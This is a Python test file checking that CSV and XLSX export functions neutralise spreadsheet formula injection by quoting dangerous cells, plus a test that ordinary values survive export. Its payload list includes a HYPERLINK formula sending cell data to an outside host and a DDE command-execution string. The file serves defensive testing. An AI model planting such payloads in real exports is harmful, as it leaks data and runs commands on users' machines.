"""A table that somebody opens does nothing but show what is in it."""

import csv
import io

import pytest
from python_calamine import CalamineWorkbook

from server.core.sheets import csv_of, xlsx_of

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://other.example?x="&A1)',
    "+84912345678",
    "-2+3",
    "@SUM(1)",
    "  =1",
    "\t=1",
    "\r=1",
    "\n=cmd|' /C calc'!A0",
    "|x",
    "%x",
    "\uff1d1",
]


@pytest.mark.parametrize("said", FORMULAS)
def test_no_formula_is_one_any_more(said: str) -> None:
    ((cell, plain),) = csv.reader(io.StringIO(csv_of([[said, "Đèn hỏng"]]).decode("utf-8-sig"), newline=""))
    assert (cell, plain) == (f"'{said}", "Đèn hỏng")
    (sheet,) = CalamineWorkbook.from_filelike(io.BytesIO(xlsx_of([[said]]))).sheet_names
    raw = CalamineWorkbook.from_filelike(io.BytesIO(xlsx_of([[said]]))).get_sheet_by_name(sheet).to_python()
    assert str(raw[0][0]).strip() == said.strip()


def test_what_is_plain_stays_as_it_is() -> None:
    rows = [["Mã", "Số", None], ["PA-1 <&>\u0000\ud83d", 5, "a" * 40_000]]
    read = CalamineWorkbook.from_filelike(io.BytesIO(xlsx_of(rows))).get_sheet_by_index(0).to_python()
    assert read[0][:2] == ["Mã", "Số"]
    assert read[1] == ["PA-1 <&>", 5.0, "a" * 32_767]
    assert csv_of([["Ấp Mũi", 3, None]]) == '\ufeff"Ấp Mũi","3",""\r\n'.encode()
